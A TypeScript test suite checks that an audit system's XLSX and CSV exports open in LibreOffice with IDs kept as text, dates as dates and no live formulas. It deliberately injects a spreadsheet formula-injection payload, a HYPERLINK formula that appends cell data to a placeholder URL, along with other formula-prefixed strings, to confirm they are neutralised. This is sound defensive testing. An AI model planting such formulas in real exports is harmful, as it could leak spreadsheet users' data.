import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { exportXlsx, LOG_HEADS, LogTooLargeForXlsx } from '../../src/audit/export.ts';
import { loadSigningKey } from '../../src/audit/signing.ts';
import { GroupCommitLog } from '../../src/audit/log-writer.ts';
import { WitnessFile } from '../../src/audit/witness.ts';
import { csvFile } from '../../src/spreadsheet/csv-file.ts';
import { encodeCp932 } from '../../src/spreadsheet/cp932.ts';
import { inertText, table, text, number, day, instant, type SpreadsheetDoc } from '../../src/spreadsheet/table.ts';
import { xlsxFile } from '../../src/spreadsheet/xlsx-file.ts';
import { accessEvent, loggedRecord } from '../support/access-events.ts';
import { login, seededApp, type Session } from '../support/app.ts';
import { runCli } from '../support/cli.ts';
import { NOW, SP, TERMINALS, USERS, seedEmergencyRoles, seedFixture, seedUnequalInquiryAnswers } from '../support/fixture.ts';
import { AFFILIATE, PERIOD, writeDataset } from '../support/legacy-dataset.ts';
import { csvImportFilter, openInLibreOffice, type OdsCell, type OdsTable } from '../support/soffice.ts';
import { STORES, openEmbeddedDir } from '../support/stores.ts';

/**
 * Issue 19: every export opens intact in a spreadsheet. Each file gridwall writes — through the real API and
 * the command line — is opened by LibreOffice Calc (headless, the CSV with the import dialog's options at
 * their most eager: types detected, formulas evaluated) and read back cell by cell: a supply point ID is its
 * 22 digits as text, a day or an instant a date (XLSX), a count a number, and no cell anywhere a formula.
 * A few LibreOffice runs convert every file at once (each run costs a second or two).
 */

const HYPERLINK = '=HYPERLINK("http://x"&A2,"open")';
const FORMULA_STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'] as const;

/** A CSV cell's text without the one tab gridwall puts before text a spreadsheet would read as a number. */
const untabbed = (s: string) => s.replace(/^\t/, '');

function cells(tables: readonly OdsTable[]): OdsCell[] {
  return tables.flatMap((t) => t.rows.flatMap((r) => r.filter((c): c is OdsCell => c !== null)));
}

function assertNoFormula(tables: readonly OdsTable[], what: string): void {
  const formulas = cells(tables).filter((c) => c.formula !== null);
  assert.deepEqual(
    formulas.map((c) => c.formula),
    [],
    `${what}: no cell is a formula`,
  );
}

/** The cells under the header cell `head` (the first row holding it), in the table holding it. */
function column(tables: readonly OdsTable[], head: string): OdsCell[] {
  for (const t of tables) {
    for (const [ri, row] of t.rows.entries()) {
      const ci = row.findIndex((c) => c?.type === 'string' && c.text === head);
      if (ci < 0) continue;
      const out: OdsCell[] = [];
      for (const r of t.rows.slice(ri + 1)) {
        if (r.length === 0) break;
        const c = r[ci];
        if (c !== undefined && c !== null) out.push(c);
      }
      return out;
    }
  }
  assert.fail(`no column ${head}`);
}

/** Every cell of an ID column: text, exactly 22 digits (one leading tab allowed in CSV), all among `known`. */
function assertIds(tables: readonly OdsTable[], head: string, known: readonly string[], what: string): void {
  const ids = column(tables, head);
  assert.ok(ids.length > 0, `${what}: ${head} has values`);
  for (const c of ids) {
    assert.equal(c.type, 'string', `${what}: ${head} ${c.text} is text, not a ${c.type}`);
    assert.match(untabbed(c.text), /^\d{22}$/, `${what}: ${head} keeps its 22 digits`);
    assert.ok(known.includes(untabbed(c.text)), `${what}: ${head} ${c.text} is one of the IDs read`);
  }
}

function assertTypes(tables: readonly OdsTable[], head: string, type: string, what: string): void {
  const col = column(tables, head);
  assert.ok(col.length > 0, `${what}: ${head} has values`);
  for (const c of col) assert.equal(c.type, type, `${what}: ${head} ${JSON.stringify(c.text)} is a ${type}`);
}

/** Each sheet prints with its header row repeated, fitted to one page wide, the title in the page header. */
function assertPrintable(tables: readonly OdsTable[], title: string, what: string): void {
  assert.ok(tables.length > 0);
  for (const t of tables) {
    assert.equal(t.headerRows, 1, `${what} / ${t.name}: the header row repeats on every page`);
    assert.equal(t.pageLayout.scaleToX, '1', `${what} / ${t.name}: fitted to one page wide`);
    assert.ok(t.pageLayout.header.includes(title), `${what} / ${t.name}: page header ${JSON.stringify(t.pageLayout.header)} names ${title}`);
  }
}

describe('the spreadsheet writers, opened in LibreOffice: any text stays that text and inert, numbers numbers, days dates', () => {
  let dir: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'gw-sheets-prop-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('random text — IDs, numbers, dates, times, truth values, formulas, Japanese — in XLSX, UTF-8 CSV and CP932 CSV', async () => {
    const lookalikes = fc.constantFrom(
      '0217800042931015223320',
      '0042',
      '12345',
      '1e5',
      '1,234',
      '¥1,000',
      '(5)',
      '.5',
      '−5',
      '50%',
      '2026-11-02',
      '2026/11/02',
      '11/2',
      '12:30',
      'TRUE',
      'false',
      'Mar 5',
      'Sept-2026',
      '令和5年1月1日',
      'H30.1.1',
      '０２１７',
      '#N/A',
      HYPERLINK,
      '=1+1',
      '+81-22-000-0000',
      '-5',
      '@SUM(A1)',
      '＝１＋１',
      ' 0217',
      '𠮷田',
      '髙橋〜',
    );
    const chars = fc.constantFrom(...Array.from('0123456789０１２３４５６７８９.,-+=@/:%$¥()# aZeE山田〜𠮷髙\t"\n'));
    const anyText = fc.oneof(
      lookalikes,
      fc.string({ unit: chars, maxLength: 12 }),
      fc.tuple(fc.constantFrom(...FORMULA_STARTS), lookalikes).map(([a, b]) => a + b),
    );
    const rows = fc.sample(
      fc.record({
        a: anyText,
        b: anyText,
        n: fc.integer({ min: -1_000_000, max: 1_000_000 }),
        d: fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }),
      }),
      {
        numRuns: 150,
        seed: 19,
      },
    );
    const doc: SpreadsheetDoc = {
      title: '性質テスト',
      tables: [
        table<(typeof rows)[number]>({
          sheet: 'random',
          title: '性質テスト',
          columns: [
            text('a', (r) => r.a),
            text('b', (r) => r.b),
            number('n', (r) => r.n),
            day('d', (r) => r.d.toISOString().slice(0, 10)),
            instant('t', (r) => r.d),
          ],
          rows,
        }),
      ],
    };
    const xlsx = join(dir, 'random.xlsx');
    const utf8 = join(dir, 'random-utf8.csv');
    const cp932 = join(dir, 'random-cp932.csv');
    writeFileSync(xlsx, await xlsxFile(doc));
    writeFileSync(utf8, csvFile(doc, 'utf-8').body);
    writeFileSync(cp932, csvFile(doc, 'cp932').body);
    const [x, u, s] = await Promise.all([
      openInLibreOffice([xlsx]),
      openInLibreOffice([utf8], csvImportFilter('utf-8')),
      openInLibreOffice([cp932], csvImportFilter('cp932')),
    ]);
    const roundCp932 = (v: string) => new TextDecoder('shift_jis').decode(encodeCp932(v).bytes);
    for (const [file, tables, expect] of [
      ['xlsx', x.get(xlsx) ?? [], (v: string) => v],
      ['utf-8 csv', u.get(utf8) ?? [], (v: string) => v],
      ['cp932 csv', s.get(cp932) ?? [], roundCp932],
    ] as const) {
      assertNoFormula(tables, file);
      for (const head of ['a', 'b'] as const) {
        const col = column(tables, head);
        assert.equal(col.length + rows.filter((r) => r[head] === '').length, rows.length, `${file}: every ${head} cell is there`);
        const written = rows.map((r) => r[head]).filter((v) => v !== '');
        col.forEach((c, i) => {
          const want = expect(inertText(written[i] ?? ''));
          assert.equal(c.type, 'string', `${file}: ${JSON.stringify(written[i])} stays text (read as ${c.type} ${c.text})`);
          // LibreOffice drops the tabs inside a text of several lines when it opens a file (its own limit, not the file's).
          const shown = want.includes('\n') ? want.replace(/\t/g, '') : want;
          assert.equal(file === 'xlsx' ? c.text : untabbed(c.text), shown, `${file}: ${JSON.stringify(written[i])} reads back`);
        });
      }
      const ns = column(tables, 'n');
      assert.deepEqual(
        ns.map((c) => [c.type, Number(c.value)]),
        rows.map((r) => ['float', r.n]),
        `${file}: numbers stay numbers`,
      );
      if (file === 'xlsx') {
        assert.deepEqual(
          column(tables, 'd').map((c) => [c.type, c.value]),
          rows.map((r) => ['date', r.d.toISOString().slice(0, 10)]),
          'days are dates',
        );
        assert.ok(
          column(tables, 't').every((c) => c.type === 'date'),
          'instants are dates',
        );
      }
    }
  });
});

for (const store of STORES) {
  describe(`every export of the API on ${store.name}, opened in LibreOffice`, () => {
    let now = NOW;
    const w = seededApp(store, { now: () => now }, async (db, owner) => {
      await seedEmergencyRoles(db);
      await seedUnequalInquiryAnswers(owner);
    });
    const at = (hours: number) => new Date(NOW.getTime() + hours * 3_600_000);
    const send = (s: Session, method: 'POST' | 'PUT', url: string, payload: Record<string, unknown> = {}) =>
      w.app.inject({ method, url, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf }, payload });
    const get = (s: Session, url: string) => w.app.inject({ method: 'GET', url, headers: { cookie: s.cookie } });

    let dir: string;
    const opened = new Map<string, OdsTable[]>();
    const headers = new Map<string, Record<string, unknown>>();
    let emergency = '';
    const READ = [SP.OWN_A, SP.SWITCHED, SP.R3];

    const exports = () => [
      { name: 'audit', url: `/api/audit/export?from=2026-10-01&to=2026-11-30`, who: USERS.compliance, title: 'アクセスログ' },
      { name: 'review', url: `/api/emergencies/${emergency}/review`, who: USERS.compliance, title: '非常災害時の閲覧の点検' },
      { name: 'terminals', url: '/api/terminals/reconciliation', who: USERS.admin, title: '端末の照合' },
      { name: 'checklist', url: '/api/policy/checklist', who: USERS.compliance, title: 'マスキング検証表' },
      { name: 'analysis', url: '/api/analysis/report?from=2026-10-01&to=2026-11-30', who: USERS.compliance, title: '閲覧状況の報告' },
      { name: 'equal', url: '/api/inquiries/equal-treatment?from=2026-10-01&to=2026-11-30', who: USERS.compliance, title: '照会対応の公平性' },
    ];

    before(async () => {
      dir = mkdtempSync(join(tmpdir(), `gw-sheets-${store.name}-`));
      const admin = await login(w.app, USERS.admin);
      // An office named as a formula, and one CP932 cannot hold, in the terminal registry (its text reaches the reconciliation).
      const put = await send(admin, 'PUT', `/api/terminals/${TERMINALS.MISPLACED}`, {
        organizationId: 'org-nw',
        office: '=1+1 𠮷田分室',
        kind: 'dedicated',
        setting: 'network',
        siteSide: 'retail',
      });
      assert.equal(put.statusCode, 200, put.body);
      assert.equal((await send(admin, 'PUT', '/api/emergency-support/p-retail', { fields: ['holder_name', 'phone'] })).statusCode, 200);
      const declared = await send(await login(w.app, USERS.callCentre), 'POST', '/api/emergencies', {
        areas: [{ kind: 'prefecture', prefecture: '宮城県' }],
        startsAt: at(1).toISOString(),
        plannedEndAt: at(25).toISOString(),
        reason: '台風による停電',
      });
      assert.equal(declared.statusCode, 201, declared.body);
      emergency = declared.json<{ id: string }>().id;
      assert.equal((await send(await login(w.app, USERS.serviceCentre), 'POST', `/api/emergencies/${emergency}/confirm`)).statusCode, 200);
      now = at(2);
      const retail = await login(w.app, USERS.retail, TERMINALS.RETAIL);
      const q = (purpose: string, reason?: string) => new URLSearchParams({ purpose, ...(reason === undefined ? {} : { reason }) }).toString();
      assert.equal((await get(retail, `/api/supply-points/${SP.SWITCHED}?${q('emergency_support', HYPERLINK)}`)).statusCode, 200);
      for (const id of READ) assert.equal((await get(retail, `/api/supply-points/${id}?${q('own_customer_service')}`)).statusCode, 200);

      const files: Record<'xlsx' | 'utf-8' | 'cp932', string[]> = { xlsx: [], 'utf-8': [], cp932: [] };
      for (const e of exports()) {
        const s = await login(w.app, e.who);
        for (const [kind, query] of [
          ['xlsx', 'format=xlsx'],
          ['utf-8', 'format=csv'],
          ['cp932', 'format=csv&encoding=cp932'],
        ] as const) {
          const res = await get(s, `${e.url}${e.url.includes('?') ? '&' : '?'}${query}`);
          assert.equal(res.statusCode, 200, `${e.name} ${query}: ${res.body.slice(0, 300)}`);
          const file = join(dir, `${e.name}-${kind}.${kind === 'xlsx' ? 'xlsx' : 'csv'}`);
          writeFileSync(file, res.rawPayload);
          files[kind].push(file);
          headers.set(file, res.headers);
        }
      }
      const [x, u, c] = await Promise.all([
        openInLibreOffice(files.xlsx),
        openInLibreOffice(files['utf-8'], csvImportFilter('utf-8')),
        openInLibreOffice(files.cp932, csvImportFilter('cp932')),
      ]);
      for (const m of [x, u, c]) for (const [k, v] of m) opened.set(k, v);
    });
    after(() => rmSync(dir, { recursive: true, force: true }));

    const sheets = (name: string, kind: 'xlsx' | 'utf-8' | 'cp932') =>
      opened.get(join(dir, `${name}-${kind}.${kind === 'xlsx' ? 'xlsx' : 'csv'}`)) ?? assert.fail(`${name} ${kind} not opened`);

    test('no cell of any export, in any form, is a formula — the emergency reason and the terminal office included, as text', () => {
      for (const e of exports())
        for (const kind of ['xlsx', 'utf-8', 'cp932'] as const) {
          assertNoFormula(sheets(e.name, kind), `${e.name} ${kind}`);
          assert.ok(cells(sheets(e.name, kind)).length > 5, `${e.name} ${kind} has cells`);
        }
      for (const kind of ['xlsx', 'utf-8', 'cp932'] as const) {
        assert.deepEqual(
          column(sheets('review', kind), '申告された理由').map((c) => c.text),
          [`'${HYPERLINK}`],
          `review ${kind}: the reason as written, marked as text`,
        );
        const offices = column(sheets('terminals', kind), '事業所').map((c) => c.text);
        assert.ok(offices.includes(kind === 'cp932' ? "'=1+1 〓田分室" : "'=1+1 𠮷田分室"), `terminals ${kind}: ${JSON.stringify(offices)}`);
      }
    });

    test('supply point IDs are 22-digit text in the log and the emergency review, in XLSX and both CSVs', () => {
      for (const kind of ['xlsx', 'utf-8', 'cp932'] as const) {
        assertIds(sheets('audit', kind), LOG_HEADS.supply_point_id, READ, `audit ${kind}`);
        assertIds(sheets('review', kind), LOG_HEADS.supply_point_id, READ, `review ${kind}`);
      }
    });

    test('in XLSX, times and days are dates and counts are numbers; every sheet prints with its title and repeated header', () => {
      assertTypes(sheets('audit', 'xlsx'), LOG_HEADS.occurred_at, 'date', 'audit');
      assertTypes(sheets('audit', 'xlsx'), LOG_HEADS.seq, 'float', 'audit');
      assertTypes(sheets('review', 'xlsx'), LOG_HEADS.occurred_at, 'date', 'review');
      assertTypes(sheets('analysis', 'xlsx'), '日付', 'date', 'analysis');
      assertTypes(sheets('analysis', 'xlsx'), '閲覧件数（計）', 'float', 'analysis');
      assertTypes(sheets('equal', 'xlsx'), '照会件数', 'float', 'equal treatment');
      for (const e of exports()) assertPrintable(sheets(e.name, 'xlsx'), e.title, e.name);
      assert.equal(sheets('audit', 'xlsx')[0]?.pageLayout.orientation, 'landscape', 'the 24 columns of the log print across the page');
    });

    test('the CP932 CSV reads as Japanese, says how many characters it replaced, and the UTF-8 one replaced none', () => {
      const title = (kind: 'utf-8' | 'cp932') => cells(sheets('analysis', kind)).map((c) => c.text);
      for (const kind of ['utf-8', 'cp932'] as const) assert.ok(title(kind).includes('閲覧者（閲覧件数の多い順）'), `analysis ${kind} reads as Japanese`);
      const cp = join(dir, 'terminals-cp932.csv');
      const held = [...readFileSync(join(dir, 'terminals-utf-8.csv'), 'utf8').matchAll(/𠮷/gu)].length;
      assert.ok(held > 0);
      assert.equal(headers.get(cp)?.['x-replaced-characters'], String(held), 'each 𠮷 counted');
      assert.equal(headers.get(cp)?.['content-type'], 'text/csv; charset=windows-31j');
      assert.match(cells(sheets('terminals', 'cp932')).at(-1)?.text ?? '', new RegExp(`^# CP932で表せない文字 ${held} 字を〓に置き換えました`));
      assert.equal(headers.get(join(dir, 'terminals-utf-8.csv'))?.['x-replaced-characters'], '0');
      assert.ok(
        readFileSync(join(dir, 'terminals-utf-8.csv'))
          .subarray(0, 3)
          .equals(Buffer.from([0xef, 0xbb, 0xbf])),
        'UTF-8 with a BOM',
      );
    });

    test('a workbook of the log holds at most its limit of rows: past it, an error naming the way out', async () => {
      const all = await exportXlsx(w.db, { from: null, to: null }, 't');
      assert.ok(all.rows >= 4, `${all.rows} rows`);
      await assert.rejects(exportXlsx(w.db, { from: null, to: null }, 't', { limit: all.rows - 1 }), (e: unknown) => {
        assert.ok(e instanceof LogTooLargeForXlsx);
        assert.match(e.message, /choose a shorter period, or CSV or JSON Lines/);
        return true;
      });
      assert.equal((await exportXlsx(w.db, { from: null, to: null }, 't', { limit: all.rows })).rows, all.rows);
    });

    test('encoding goes with format=csv only; an unknown encoding is refused', async () => {
      const s = await login(w.app, USERS.compliance);
      for (const url of ['/api/policy/checklist?format=xlsx&encoding=cp932', '/api/policy/checklist?encoding=cp932', '/api/audit/export?encoding=cp932']) {
        const res = await get(s, url);
        assert.equal(res.statusCode, 400, url);
        assert.equal(res.json().error.code, 'validation_failed');
        assert.match(res.json().error.message, /encoding applies to format=csv only/);
      }
      const bad = await get(s, '/api/policy/checklist?format=csv&encoding=latin1');
      assert.equal(bad.statusCode, 400);
      assert.match(bad.json().error.message, /encoding/);
    });
  });
}

describe('every export of the command line, opened in LibreOffice', () => {
  let dir: string;
  let store: string;
  const opened = new Map<string, OdsTable[]>();
  const IDS = [0, 1, 2].map((i) => loggedRecord(i).supplyPointId);
  const env = () => {
    const { DATABASE_URL: _ignored, ...rest } = process.env;
    return { ...rest, GRIDWALL_DATA_DIR: store };
  };

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'gw-sheets-cli-'));
    store = join(dir, 'store');
    // The embedded store: the fixture, and log events whose office is a formula and whose supply point IDs start with 0.
    const { key } = loadSigningKey(join(store, 'log-signing-key.pem'), true);
    const db = await openEmbeddedDir(store);
    await seedFixture(db);
    const log = new GroupCommitLog(db, { key, checkpointEvery: 10, witness: new WitnessFile(join(store, 'log-witness.jsonl')) });
    for (let i = 0; i < 3; i++) await log.append(accessEvent(i, { office: '=1+1', records: [loggedRecord(i)] }));
    await log.close();
    await db.close();

    // The legacy dataset, with an office named as a formula in the staff file (the analysis CSV's known hole).
    const d = writeDataset(join(dir, 'data'), { seed: 7 });
    writeFileSync(d.files.staff, readFileSync(d.files.staff, 'utf8').replaceAll('仙台営業所', '=1+1'));
    const analyze = [
      'analyze',
      '--affiliate',
      AFFILIATE,
      '--from',
      PERIOD.from,
      '--to',
      PERIOD.to,
      '--staff',
      d.files.staff,
      '--terminals',
      d.files.terminals,
      '--contracts',
      d.files.contracts,
      ...d.files.logs.flatMap((l) => ['--log', l]),
    ];
    writeFileSync(join(dir, 'permissions.csv'), '\uFEFFpermission_id,name,allowed_sides\nP-NW,託送顧客情報照会,network\n');
    writeFileSync(
      join(dir, 'staff.csv'),
      'user_id,person_id,organization,side,employment,office,valid_from,valid_to\n0012345,P1,関西電力,retail,employee,=1+1,2020/04/01,\n',
    );
    writeFileSync(join(dir, 'grants.csv'), 'user_id,permission_id,granted_by,granted_at,revoked_at\n0012345,P-NW,0012345,2021-05-10,\n');
    const grants = [
      'grants',
      'check',
      '--staff',
      join(dir, 'staff.csv'),
      '--permissions',
      join(dir, 'permissions.csv'),
      '--grants',
      join(dir, 'grants.csv'),
      '--at',
      '2023-01-01',
      // With the log: the exposure sheet (issue 22) beside the violations.
      '--log',
      d.files.logs[0] ?? '',
      '--contracts',
      d.files.contracts,
      '--affiliate',
      AFFILIATE,
    ];
    const commands: Record<string, string[]> = {
      analyze,
      grants,
      verify: ['verify'],
      audit: ['audit', 'export'],
      terminals: ['terminals', 'report'],
    };
    const files: Record<'xlsx' | 'utf-8' | 'cp932', string[]> = { xlsx: [], 'utf-8': [], cp932: [] };
    for (const [name, args] of Object.entries(commands))
      for (const [kind, extra] of [
        ['xlsx', ['--format', 'xlsx']],
        ['utf-8', ['--format', 'csv']],
        ['cp932', ['--format', 'csv', '--encoding', 'cp932']],
      ] as const) {
        const file = join(dir, `${name}-${kind}.${kind === 'xlsx' ? 'xlsx' : 'csv'}`);
        const r = await runCli([...args, ...extra, '--out', file], { env: env() });
        assert.equal(r.status, 0, `${name} ${kind}: ${r.stderr}`);
        files[kind].push(file);
      }
    const [x, u, c] = await Promise.all([
      openInLibreOffice(files.xlsx),
      openInLibreOffice(files['utf-8'], csvImportFilter('utf-8')),
      openInLibreOffice(files.cp932, csvImportFilter('cp932')),
    ]);
    for (const m of [x, u, c]) for (const [k, v] of m) opened.set(k, v);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  const sheets = (name: string, kind: 'xlsx' | 'utf-8' | 'cp932') =>
    opened.get(join(dir, `${name}-${kind}.${kind === 'xlsx' ? 'xlsx' : 'csv'}`)) ?? assert.fail(`${name} ${kind}`);

  test('no cell is a formula; the formula-named offices and user IDs are text, as written behind one quote', () => {
    for (const name of ['analyze', 'grants', 'verify', 'audit', 'terminals'])
      for (const kind of ['xlsx', 'utf-8', 'cp932'] as const) {
        assertNoFormula(sheets(name, kind), `${name} ${kind}`);
        assert.ok(cells(sheets(name, kind)).length > 3, `${name} ${kind} has cells`);
      }
    for (const kind of ['xlsx', 'utf-8', 'cp932'] as const) {
      assert.ok(
        column(sheets('analyze', kind), '事業所').some((c) => c.text === "'=1+1"),
        `analyze ${kind}: the office =1+1 is text`,
      );
      assert.ok(
        column(sheets('audit', kind), LOG_HEADS.office).every((c) => c.type === 'string' && c.text === "'=1+1"),
        `audit ${kind}`,
      );
      const users = column(sheets('grants', kind), 'user_id');
      assert.ok(users.length > 0);
      for (const c of users)
        assert.deepEqual([c.type, untabbed(c.text)], ['string', '0012345'], `grants ${kind}: a numeric-looking user ID keeps its leading zeros as text`);
    }
  });

  test('supply point IDs are 22-digit text; in XLSX times and days are dates and counts numbers; sheets print', () => {
    for (const kind of ['xlsx', 'utf-8', 'cp932'] as const) assertIds(sheets('audit', kind), LOG_HEADS.supply_point_id, IDS, `audit ${kind}`);
    assertTypes(sheets('audit', 'xlsx'), LOG_HEADS.occurred_at, 'date', 'audit');
    assertTypes(sheets('analyze', 'xlsx'), '日付', 'date', 'analyze');
    assertTypes(sheets('analyze', 'xlsx'), '閲覧件数', 'float', 'analyze');
    assertTypes(sheets('grants', 'xlsx'), 'granted_at', 'date', 'grants');
    assertTypes(sheets('grants', 'xlsx'), 'from', 'date', 'grants exposure');
    assertTypes(sheets('grants', 'xlsx'), 'views', 'float', 'grants exposure');
    for (const [name, title] of [
      ['analyze', '閲覧状況の報告'],
      ['grants', '権限の点検'],
      ['verify', 'マスキング検証表'],
      ['audit', 'アクセスログ'],
      ['terminals', '端末の照合'],
    ] as const)
      assertPrintable(sheets(name, 'xlsx'), title, name);
  });

  test('--encoding goes with --format csv only; xlsx needs --out', async () => {
    const e = await runCli(['verify', '--format', 'md', '--encoding', 'cp932'], { env: env() });
    assert.equal(e.status, 2);
    assert.match(e.stderr, /--encoding applies to --format csv only/);
    const x = await runCli(['verify', '--format', 'xlsx'], { env: env() });
    assert.equal(x.status, 2);
    assert.match(x.stderr, /give --out FILE\.xlsx/);
  });
});
